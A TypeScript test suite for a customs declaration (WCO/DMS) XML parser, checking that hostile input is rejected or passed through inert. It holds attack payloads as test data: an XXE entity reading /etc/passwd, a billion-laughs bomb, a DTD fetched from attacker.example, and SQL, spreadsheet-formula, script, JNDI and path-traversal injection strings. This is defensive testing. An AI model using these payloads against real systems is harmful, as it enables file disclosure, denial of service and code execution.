// Hostile and broken input: every case must end in a precise rejection (or, for injection strings,
// inert pass-through), quickly, without reading files, expanding entities or buffering unbounded data.
import { createDmsDeclarationParser, parseDmsDeclaration, parseDmsDeclarationStream } from './parse-dms';
import type { DmsParseResult, ParseIssue } from './types';
import { declaration, goodsItem, NS_DEC, NS_META } from './__fixtures__/synthetic';

const firstError = (r: DmsParseResult): ParseIssue => {
  if (r.ok) throw new Error('expected a rejection, got a declaration');
  expect(r.errors).toHaveLength(1);
  return r.errors[0]!;
};
const opts = { sourceName: 'upload/evil.xml' };

describe('DTDs, XXE and entity expansion', () => {
  it('rejects an external entity (XXE) without touching the file system', () => {
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n<md:MetaData xmlns:md="${NS_META}"><Declaration xmlns="${NS_DEC}"><FunctionalReferenceID>&e;</FunctionalReferenceID></Declaration></md:MetaData>`;
    const r = parseDmsDeclaration(xml, opts);
    const e = firstError(r);
    expect(e).toMatchObject({ code: 'DTD_FORBIDDEN', sourceName: 'upload/evil.xml', field: 'DOCTYPE', line: 2 });
    expect(JSON.stringify(r)).not.toMatch(/root:|\/bin\/(ba)?sh/);
  });

  it('rejects a billion-laughs document at the DOCTYPE, in milliseconds', () => {
    const entities = ['<!ENTITY lol "lol">'];
    for (let i = 1; i <= 9; i++) entities.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n${entities.join('\n')}\n]>\n<lolz>&lol9;</lolz>`;
    const started = process.hrtime.bigint();
    const e = firstError(parseDmsDeclaration(xml, opts));
    expect(e.code).toBe('DTD_FORBIDDEN');
    expect(Number(process.hrtime.bigint() - started) / 1e6).toBeLessThan(200);
  });

  it('rejects a DOCTYPE even without entity declarations', () => {
    expect(firstError(parseDmsDeclaration(`<!DOCTYPE md:MetaData SYSTEM "http://attacker.example/x.dtd">${declaration().replace(/^<\?xml[^>]*>\n/, '')}`, opts)).code).toBe('DTD_FORBIDDEN');
  });

  it('treats a reference to an undeclared entity as not well-formed (nothing is resolved)', () => {
    const e = firstError(parseDmsDeclaration(declaration({ header: '<AdditionalInformation><StatementDescription>&xxe;</StatementDescription></AdditionalInformation>' }), opts));
    expect(e.code).toBe('XML_NOT_WELL_FORMED');
    expect(e.reason).toMatch(/entity/);
  });
});

describe('encoding', () => {
  it('rejects invalid UTF-8 bytes, naming the byte offset and line', () => {
    const xml = declaration({ items: goodsItem(1, '', '<Description>BAD</Description>') });
    const bytes = Buffer.from(xml, 'utf8');
    const at = bytes.indexOf('BAD');
    bytes[at] = 0xc3; // a lead byte followed by an ASCII byte: not UTF-8
    bytes[at + 1] = 0x28;
    const e = firstError(parseDmsDeclaration(bytes, opts));
    expect(e.code).toBe('INVALID_ENCODING');
    expect(e.reason).toBe(`invalid UTF-8 byte sequence at byte offset ${at}`);
    expect(e.line).toBe(xml.slice(0, xml.indexOf('BAD')).split('\n').length);
  });

  it.each([
    ['overlong "/"', [0xc0, 0xaf]],
    ['lone continuation byte', [0x80]],
    ['UTF-16 surrogate encoded in UTF-8', [0xed, 0xa0, 0x80]],
    ['code point above U+10FFFF', [0xf4, 0x90, 0x80, 0x80]],
  ])('rejects %s', (_name, seq) => {
    const xml = Buffer.from(declaration({ header: '<AdditionalInformation><StatementDescription>@@</StatementDescription></AdditionalInformation>' }), 'utf8');
    const at = xml.indexOf('@@');
    const bytes = Buffer.concat([xml.subarray(0, at), Buffer.from(seq), xml.subarray(at + 2)]);
    expect(firstError(parseDmsDeclaration(bytes, opts))).toMatchObject({ code: 'INVALID_ENCODING', reason: `invalid UTF-8 byte sequence at byte offset ${at}` });
  });

  it('rejects a document cut off inside a multi-byte character', () => {
    const bytes = Buffer.concat([Buffer.from(declaration(), 'utf8'), Buffer.from([0xe2, 0x82])]);
    expect(firstError(parseDmsDeclaration(bytes, opts))).toMatchObject({ code: 'INVALID_ENCODING', reason: 'the document ends inside a UTF-8 multi-byte sequence' });
  });

  it('rejects a declared UTF-16 encoding', () => {
    const e = firstError(parseDmsDeclaration(declaration({ prolog: '<?xml version="1.0" encoding="UTF-16"?>' }), opts));
    expect(e).toMatchObject({ code: 'INVALID_ENCODING', line: 1, reason: 'declared encoding "UTF-16" is not accepted; send UTF-8' });
  });

  it('rejects a declared ISO-8859-1 encoding', () => {
    expect(firstError(parseDmsDeclaration(declaration({ prolog: "<?xml version='1.0' encoding='ISO-8859-1'?>" }), opts)).code).toBe('INVALID_ENCODING');
  });

  it('rejects actual UTF-16 bytes (with or without a byte-order mark)', () => {
    const utf16 = Buffer.from(declaration({ prolog: '<?xml version="1.0" encoding="UTF-16"?>' }), 'utf16le');
    expect(firstError(parseDmsDeclaration(Buffer.concat([Buffer.from([0xff, 0xfe]), utf16]), opts)).reason).toMatch(/UTF-16 encoded/);
    expect(firstError(parseDmsDeclaration(utf16, opts)).reason).toMatch(/UTF-16 encoded/);
  });

  it('accepts US-ASCII when the bytes are ASCII, rejects it when they are not', () => {
    expect(parseDmsDeclaration(declaration({ prolog: '<?xml version="1.0" encoding="US-ASCII"?>' }), opts).ok).toBe(true);
    const lying = declaration({ prolog: '<?xml version="1.0" encoding="us-ascii"?>', header: '<AdditionalInformation><StatementDescription>£5</StatementDescription></AdditionalInformation>' });
    expect(firstError(parseDmsDeclaration(lying, opts)).reason).toBe('the document declares encoding US-ASCII but contains non-ASCII characters');
  });

  it('accepts a UTF-8 byte-order mark and non-ASCII text', () => {
    const xml = declaration({ header: '<AdditionalInformation><StatementCode>GEN45</StatementCode><StatementDescription>Café £1 — 東京</StatementDescription></AdditionalInformation>' });
    const r = parseDmsDeclaration(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(xml, 'utf8')]), opts);
    expect(r.ok && r.declaration.additionalInformation).toEqual([{ code: 'GEN45', text: 'Café £1 — 東京' }]);
  });

  it('rejects a JavaScript string holding an unpaired surrogate', () => {
    const xml = declaration({ header: '<AdditionalInformation><StatementDescription>\ud800x</StatementDescription></AdditionalInformation>' });
    expect(firstError(parseDmsDeclaration(xml, opts)).code).toBe('INVALID_ENCODING');
  });
});

describe('size limits', () => {
  it('rejects input over maxBytes before parsing it', () => {
    // Not even XML: the size check comes first, so the answer is TOO_LARGE, not a syntax error.
    const e = firstError(parseDmsDeclaration(Buffer.alloc(2001, 0x41), { sourceName: 'big.xml', maxBytes: 2000 }));
    expect(e).toMatchObject({ code: 'TOO_LARGE', sourceName: 'big.xml', line: 0, reason: 'the document is 2001 bytes; the limit is 2000' });
  });

  it('applies a 10 MiB default limit', () => {
    const tooBig = Buffer.alloc(10 * 1024 * 1024 + 1, 0x20);
    expect(firstError(parseDmsDeclaration(tooBig, opts)).code).toBe('TOO_LARGE');
  });

  it('stops reading a stream at the limit instead of buffering it', async () => {
    let pulled = 0;
    async function* endless(): AsyncGenerator<Uint8Array> {
      yield Buffer.from(`<md:MetaData xmlns:md="${NS_META}"><Declaration xmlns="${NS_DEC}"><FunctionCode>9</FunctionCode>`);
      for (;;) {
        pulled++;
        yield Buffer.alloc(64 * 1024, 0x20);
      }
    }
    const r = await parseDmsDeclarationStream(endless(), { sourceName: 'stream', maxBytes: 1024 * 1024 });
    expect(firstError(r).code).toBe('TOO_LARGE');
    expect(pulled).toBe(16);
  });

  it('rejects an over-long text node with FIELD_TOO_LONG, naming the element', () => {
    const long = 'x'.repeat(64 * 1024 + 1);
    const e = firstError(parseDmsDeclaration(declaration({ items: goodsItem(1, '', `<InvoiceLine><ItemChargeAmount currencyID="GBP">${long}</ItemChargeAmount></InvoiceLine>`) }), opts));
    expect(e).toMatchObject({ code: 'FIELD_TOO_LONG', field: 'ItemChargeAmount' });
    expect(e.elementPath).toBe('MetaData/Declaration/GoodsShipment/GovernmentAgencyGoodsItem/Commodity/InvoiceLine/ItemChargeAmount');
    expect(e.line).toBeGreaterThan(1);
  });

  it('caps text in elements the parser does not keep too, and attribute values', () => {
    const long = 'y'.repeat(1001);
    expect(firstError(parseDmsDeclaration(declaration({ header: `<Unknown>${long}</Unknown>` }), { ...opts, maxFieldChars: 1000 })).code).toBe('FIELD_TOO_LONG');
    const e = firstError(parseDmsDeclaration(declaration({ header: `<InvoiceAmount currencyID="${long}">1</InvoiceAmount>` }), { ...opts, maxFieldChars: 1000 }));
    expect(e).toMatchObject({ code: 'FIELD_TOO_LONG', field: '@currencyID' });
  });

  it('rejects absurdly deep nesting', () => {
    const deep = '<x>'.repeat(500) + '</x>'.repeat(500);
    const e = firstError(parseDmsDeclaration(declaration({ header: deep }), opts));
    expect(e.code).toBe('TOO_LARGE');
    expect(e.reason).toBe('elements nest deeper than 128 levels');
  });

  it('stops at the depth cap at once: 100,000 nested elements (1.4 MB) are refused in well under a second', () => {
    // saxes resolves an unprefixed element's namespace by walking the tag stack, so reading on
    // past the cap held the thread for over a minute (hostile corpus case u-dms-deep-nesting).
    const xml = `<Declaration xmlns="${NS_DEC}">${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</Declaration>`;
    const started = Date.now();
    const r = parseDmsDeclaration(xml, { sourceName: 'deep.xml', schemaCheck: false });
    expect(Date.now() - started).toBeLessThan(1000);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.errors[0]).toMatchObject({ code: 'TOO_LARGE', reason: 'elements nest deeper than 128 levels' });
  });
});

describe('malformed and foreign documents', () => {
  it.each([
    ['an empty document', '', /empty/],
    ['JSON', '{"declaration": 1}', /./],
    ['a truncated document', declaration().slice(0, 400), /./],
    ['two root elements', `${declaration()}<md:MetaData xmlns:md="${NS_META}"/>`, /./],
    ['an unbound namespace prefix', '<x:Declaration><FunctionCode>9</FunctionCode></x:Declaration>', /prefix/],
  ])('rejects %s as not well-formed', (_name, input, reason) => {
    const e = firstError(parseDmsDeclaration(input, opts));
    expect(e.code).toBe('XML_NOT_WELL_FORMED');
    expect(e.reason).toMatch(reason);
  });

  it('reports the line and column of a syntax error', () => {
    const e = firstError(parseDmsDeclaration('<?xml version="1.0"?>\n<a>\n  <b></c>\n</a>', opts));
    expect(e).toMatchObject({ code: 'XML_NOT_WELL_FORMED', line: 3, sourceName: 'upload/evil.xml' });
    expect(e.reason).toMatch(/unexpected close tag/);
  });

  it('rejects a declaration without namespaces as WRONG_NAMESPACE, naming what it found', () => {
    const noNs = declaration().replace(` xmlns:md="${NS_META}" xmlns="${NS_DEC}"`, '').replace(/md:/g, '');
    expect(firstError(parseDmsDeclaration(noNs, opts))).toMatchObject({ code: 'WRONG_NAMESPACE', reason: expect.stringContaining('root element MetaData is in namespace (none)') });
  });

  it('rejects a Declaration in another namespace inside a correct md:MetaData', () => {
    const xml = declaration().replace(`xmlns="${NS_DEC}"`, 'xmlns="urn:wco:datamodel:WCO:DEC-DMS:1"');
    expect(firstError(parseDmsDeclaration(xml, opts))).toMatchObject({
      code: 'WRONG_NAMESPACE',
      elementPath: 'MetaData/Declaration',
      reason: expect.stringContaining('"urn:wco:datamodel:WCO:DEC-DMS:1"'),
    });
  });

  it('rejects two Declarations in one md:MetaData rather than dropping one', () => {
    const two = declaration().replace('</md:MetaData>', `<Declaration><FunctionCode>9</FunctionCode></Declaration></md:MetaData>`);
    expect(firstError(parseDmsDeclaration(two, opts))).toMatchObject({ code: 'NOT_A_DECLARATION', elementPath: 'MetaData/Declaration', reason: expect.stringContaining('more than one Declaration') });
  });

  it('rejects foreign XML as NOT_A_DECLARATION', () => {
    expect(firstError(parseDmsDeclaration('<invoice xmlns="urn:example:invoice"><total>1</total></invoice>', opts))).toMatchObject({
      code: 'NOT_A_DECLARATION',
      reason: 'root element invoice (namespace "urn:example:invoice") is not a WCO/DMS declaration',
    });
  });

  it('rejects an md:MetaData without a Declaration, and an MDG envelope without md:MetaData', () => {
    expect(firstError(parseDmsDeclaration(`<md:MetaData xmlns:md="${NS_META}"><md:WCOTypeName>DEC</md:WCOTypeName></md:MetaData>`, opts)).code).toBe('MISSING_ELEMENT');
    const envelope = '<v1:submitDeclarationRequest xmlns:v1="http://uk/gov/hmrc/mdg/declarationmanagement/submitdeclaration/request/schema/v1"><v1:requestDetail/></v1:submitDeclarationRequest>';
    expect(firstError(parseDmsDeclaration(envelope, opts))).toMatchObject({ code: 'MISSING_ELEMENT', field: 'md:MetaData' });
  });
});

describe('injection strings are inert data', () => {
  it.each([
    ["'; DROP TABLE declarations;--"],
    ["=cmd|' /C calc'!A0"],
    ['<script>alert(1)</script>'],
    ['${jndi:ldap://x/a}'],
    ['../../etc/passwd'],
    ['Robert"); DELETE FROM x; --'],
  ])('passes %s through verbatim', (payload) => {
    const escaped = payload.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
    const xml = declaration({
      items: goodsItem(1, `<AdditionalDocument><CategoryCode>N</CategoryCode><ID>${escaped}</ID><TypeCode>935</TypeCode></AdditionalDocument>`, '').replace('Shaver parts', escaped),
    }).replace('LRN-1', escaped);
    const r = parseDmsDeclaration(xml, opts);
    if (!r.ok) throw new Error(JSON.stringify(r.errors));
    expect(r.declaration.lrn).toBe(payload);
    expect(r.declaration.items[0]!.description).toBe(payload);
    expect(r.declaration.items[0]!.documents[0]!.reference).toBe(payload);
  });

  it('cannot pollute prototypes through element or attribute names', () => {
    const xml = declaration({
      header: '<__proto__><polluted>1</polluted></__proto__><constructor/>',
      items: goodsItem(1, '', '<InvoiceLine><ItemChargeAmount currencyID="GBP" __proto__="x" constructor="y">5</ItemChargeAmount></InvoiceLine>'),
    });
    const r = parseDmsDeclaration(xml, opts);
    expect(r.ok && r.declaration.items[0]!.itemPrice).toEqual({ value: '5', currency: 'GBP' });
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('streaming', () => {
  it('gives the same result whether the bytes arrive at once, byte by byte, or as string chunks', () => {
    const xml = declaration({ header: '<AdditionalInformation><StatementCode>GEN45</StatementCode><StatementDescription>Café £1 — 東京 🚢</StatementDescription></AdditionalInformation>' });
    const whole = parseDmsDeclaration(Buffer.from(xml, 'utf8'), opts);
    expect(whole.ok).toBe(true);

    const byByte = createDmsDeclarationParser(opts);
    for (const b of Buffer.from(xml, 'utf8')) byByte.write(Uint8Array.of(b));
    expect(byByte.end()).toEqual(whole);

    // String chunks of 3 code units: the ship emoji's surrogate pair gets split across writes.
    const byString = createDmsDeclarationParser(opts);
    for (let i = 0; i < xml.length; i += 3) byString.write(xml.slice(i, i + 3));
    expect(byString.end()).toEqual(whole);
  });

  it('reports the same invalid-UTF-8 offset when the bad sequence straddles two chunks', () => {
    const bytes = Buffer.from(declaration({ header: '<AdditionalInformation><StatementDescription>@@@</StatementDescription></AdditionalInformation>' }), 'utf8');
    const at = bytes.indexOf('@@@');
    bytes[at] = 0xe2;
    bytes[at + 1] = 0x82;
    bytes[at + 2] = 0x41; // third byte is not a continuation byte
    const p = createDmsDeclarationParser(opts);
    p.write(bytes.subarray(0, at + 1));
    p.write(bytes.subarray(at + 1));
    expect(firstError(p.end())).toMatchObject({ code: 'INVALID_ENCODING', reason: `invalid UTF-8 byte sequence at byte offset ${at}` });
    expect(firstError(parseDmsDeclaration(bytes, opts)).reason).toBe(`invalid UTF-8 byte sequence at byte offset ${at}`);

    // Byte by byte, the sequence starts two chunks before the byte that breaks it; same answer.
    const oneByOne = createDmsDeclarationParser(opts);
    for (const b of bytes) oneByOne.write(Uint8Array.of(b));
    const e = firstError(oneByOne.end());
    expect(e.reason).toBe(`invalid UTF-8 byte sequence at byte offset ${at}`);
    expect(e.line).toBe(bytes.subarray(0, at).toString('latin1').split('\n').length);
  });

  it('stops early on a notification and reports failed to the caller', () => {
    const p = createDmsDeclarationParser(opts);
    p.write('<MetaData><WCOTypeName>RES</WCOTypeName><Response><FunctionCode>03</FunctionCode>');
    expect(p.failed).toBe(true);
    p.write('<this is not even looked at');
    expect(firstError(p.end()).reason).toMatch(/^this is a DMS notification \(DMSREJ, Response FunctionCode 03\)/);
  });
});
